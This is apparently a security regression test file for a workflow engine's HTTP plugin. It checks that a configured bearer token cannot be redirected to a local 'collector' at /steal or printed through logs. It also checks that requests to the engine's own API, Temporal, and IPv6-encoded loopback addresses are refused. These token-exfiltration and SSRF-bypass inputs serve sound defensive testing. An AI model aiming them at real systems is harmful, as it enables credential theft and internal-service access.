/**
 * Issue 16, findings 4 and 6, through the whole stack: what a user with the workflow role can make
 * Net/Http send, and where. This installation lets plugins reach loopback (where the test servers
 * listen), as an operator may; its own ports stay refused.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { basicAs, loopbackAllowed, startTrellis, type Trellis } from '../support/harness.js';
import { definition, run, taskLogs, tasksOf } from './engine-support.js';

let trellis: Trellis;
/** The API a configuration holds a token for; echoes each request's headers. */
let api: Server;
/** Somewhere else, which would collect what it is sent. */
let collector: Server;
const seenByApi: IncomingHttpHeaders[] = [];
const seenByCollector: IncomingHttpHeaders[] = [];
const token = 'tok-finding-4-9f1c2e';

async function listen(record: IncomingHttpHeaders[]): Promise<Server> {
  const server = createServer((request, response) => {
    record.push(request.headers);
    response
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ headers: request.headers }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}
const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
const close = (server: Server | undefined) =>
  new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));

beforeAll(async () => {
  [trellis, api, collector] = await Promise.all([
    startTrellis({ worker: true, config: loopbackAllowed }),
    listen(seenByApi),
    listen(seenByCollector),
  ]);
  await trellis.admin.POST('/config', {
    body: {
      name: 'partner-api',
      type: 'Net/Http',
      version: '1.0.0',
      specifications: { baseUrl: `${urlOf(api)}/`, bearerToken: token },
    },
  });
});
afterAll(async () => {
  await trellis?.stop();
  await close(api);
  await close(collector);
});

describe('a configuration holding a bearer token (finding 4)', () => {
  it('does not send it to a url the task chooses elsewhere', async () => {
    const workflowUser = trellis.client(basicAs('workflow'));
    const def = definition([
      {
        name: 'H',
        type: 'partner-api',
        parameters: { url: `${urlOf(collector)}/steal` },
      },
    ]);
    const { id: workflowId } = await workflowUser.POST('/workflows/Add', {
      body: { definition: JSON.stringify(def) },
    });
    const { executionId } = await workflowUser.POST('/workflows/{workflowId}/executions', {
      params: { path: { workflowId } },
      body: { workflowId },
    });
    const execution = await workflowUser.waitForExecution(workflowId, executionId, {
      timeoutMs: 60_000,
    });
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(workflowUser, workflowId, executionId);
    expect(tasks.H!.message).toContain(
      `is outside ${urlOf(api)}, the origin of the baseUrl setting`,
    );
    expect(seenByCollector).toEqual([]);
  });

  it('keeps it out of task outputs, so Flow/Log cannot print it', async () => {
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([
        { name: 'H', type: 'partner-api', parameters: { url: 'echo' } },
        {
          name: 'Print',
          type: { plugin: 'Flow/Log' },
          dependencies: ['H'],
          parameters: { message: "auth: $[Outputs('H').body.headers.authorization]" },
        },
      ]),
    );
    expect(execution.status).toBe('Completed');
    // The API got the token it is configured for...
    expect(seenByApi.at(-1)).toMatchObject({ authorization: `Bearer ${token}` });
    // ...and nothing the run recorded holds it.
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    expect(await taskLogs(trellis.admin, workflowId, executionId, tasks.Print!.id)).toContain(
      'auth: Bearer ********',
    );
    const rows = await trellis.db
      .selectFrom('taskExecution')
      .select(['output', 'message'])
      .where('executionId', '=', executionId)
      .execute();
    const logs = await trellis.db
      .selectFrom('logEntry')
      .select(['message', 'exception'])
      .where('executionId', '=', executionId)
      .execute();
    expect(JSON.stringify([rows, logs])).not.toContain(token);
  });
});

describe("Trellis's own services (finding 6)", () => {
  it('are refused even where loopback is allowed: the API and Temporal', async () => {
    const temporal = trellis.config.Temporal.Address!;
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([
        {
          name: 'Api',
          type: { plugin: 'Net/Http' },
          parameters: {
            url: `${trellis.baseUrl}/workflows`,
            headers: { authorization: `Basic ${btoa('admin:admin-password')}` },
          },
        },
        {
          name: 'Temporal',
          type: { plugin: 'Net/Http' },
          parameters: { url: `http://${temporal}/` },
        },
      ]),
    );
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    const apiPort = new URL(trellis.baseUrl).port;
    expect(tasks.Api!.message).toBe(
      `Failed: GET ${trellis.baseUrl}/workflows refused: 127.0.0.1:${apiPort} is one of Trellis's own services.`,
    );
    expect(tasks.Temporal!.message).toMatch(/refused: .* is one of Trellis's own services/);
  });
});

describe('IPv6 forms of a loopback address (issue 27, item 9)', () => {
  it('are refused where only loopback is allowed', async () => {
    const port = new URL(urlOf(collector)).port;
    const forms = {
      Compatible: '::127.0.0.1',
      Nat64: '64:ff9b::127.0.0.1',
      SixToFour: '2002:7f00:1::1',
    };
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition(
        Object.entries(forms).map(([name, address]) => ({
          name,
          type: { plugin: 'Net/Http' },
          parameters: { url: `http://[${address}]:${port}/` },
        })),
      ),
    );
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    expect(tasks.Compatible!.message).toBe(
      `Failed: GET http://[::7f00:1]:${port}/ refused: ::7f00:1 is an IPv6 form carrying 127.0.0.1, reachable only if Plugins.Network.AllowCidrs allows it.`,
    );
    for (const name of ['Nat64', 'SixToFour']) {
      expect(tasks[name]!.message).toMatch(/refused: \S+ is an IPv6 form carrying 127\.0\.0\.1/);
    }
    expect(seenByCollector).toEqual([]);
  });
});
